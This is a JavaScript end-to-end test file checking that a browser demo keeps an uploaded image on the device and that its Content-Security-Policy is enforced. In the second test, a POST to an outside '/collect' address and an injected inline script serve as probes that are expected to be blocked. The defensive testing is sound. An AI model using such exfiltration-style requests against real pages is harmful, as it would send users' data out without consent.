// End to end: the image never leaves the device. Every request made while the demo generates a
// video is recorded; each must go to the page's own origin, be a plain GET, and carry none of the
// image's bytes. The Content-Security-Policy is checked to be really enforced, not just present.
import assert from 'node:assert/strict';
import fs from 'node:fs';
import { after, before, test } from 'node:test';
import { generate, makeImage, openDemo, startSession } from './harness.mjs';

let browser;
let server;
/** @type {() => Promise<void>} */
let close;

before(async () => {
  ({ browser, server, close } = await startSession({ page: false }));
});

after(() => close?.());

test('a generation sends nothing anywhere: same-origin GETs only, none carrying the image', async () => {
  const { page, context, problems } = await openDemo(browser, server.url);
  await page.evaluate(() => {
    globalThis.cspViolations = [];
    document.addEventListener('securitypolicyviolation', (e) => globalThis.cspViolations.push(`${e.violatedDirective} ${e.blockedURI}`));
  });
  const image = makeImage('private.png', '800x600');
  const secret = fs.readFileSync(image);
  // Distinctive slices of the file: any request carrying the image would contain one of them.
  const slices = [64, secret.length >> 1, secret.length - 80].map((at) => secret.subarray(at, at + 48));
  const requests = [];
  const record = (req) => requests.push({ url: req.url(), method: req.method(), body: req.postDataBuffer() });
  context.on('request', record); // page and its workers
  const result = await generate(page, { image, format: 'mp4', duration: '1', fps: '12', resolution: '512x512' });
  context.off('request', record);
  assert.equal(result.error, null);
  const origin = new URL(server.url).origin;
  for (const r of requests) {
    const u = new URL(r.url);
    assert.ok(u.protocol === 'blob:' || u.origin === origin, `request left the origin: ${r.url}`);
    assert.equal(r.method, 'GET', `${r.method} ${r.url}`);
    const body = r.body ?? Buffer.alloc(0);
    for (const s of slices) assert.ok(!body.includes(s) && !r.url.includes(s.toString('base64')), `${r.url} carries the image`);
  }
  const violations = await page.evaluate(() => globalThis.cspViolations);
  assert.deepEqual(violations, []);
  assert.deepEqual(problems, []);
  await context.close();
});

test('the Content-Security-Policy is enforced: other origins cannot be reached, inline script does not run', async () => {
  const { page, context } = await openDemo(browser, server.url);
  const out = await page.evaluate(async () => {
    const fetched = await fetch('http://198.51.100.7/collect', { method: 'POST', body: 'x' }).then(() => 'sent', (e) => e.name);
    const s = document.createElement('script');
    s.textContent = 'globalThis.inlineRan = true';
    document.body.append(s);
    await new Promise((r) => setTimeout(r, 50));
    return { fetched, inlineRan: Boolean(globalThis.inlineRan) };
  });
  assert.equal(out.fetched, 'TypeError', 'connect-src blocks the request');
  assert.equal(out.inlineRan, false, 'script-src blocks inline script');
  await context.close();
});
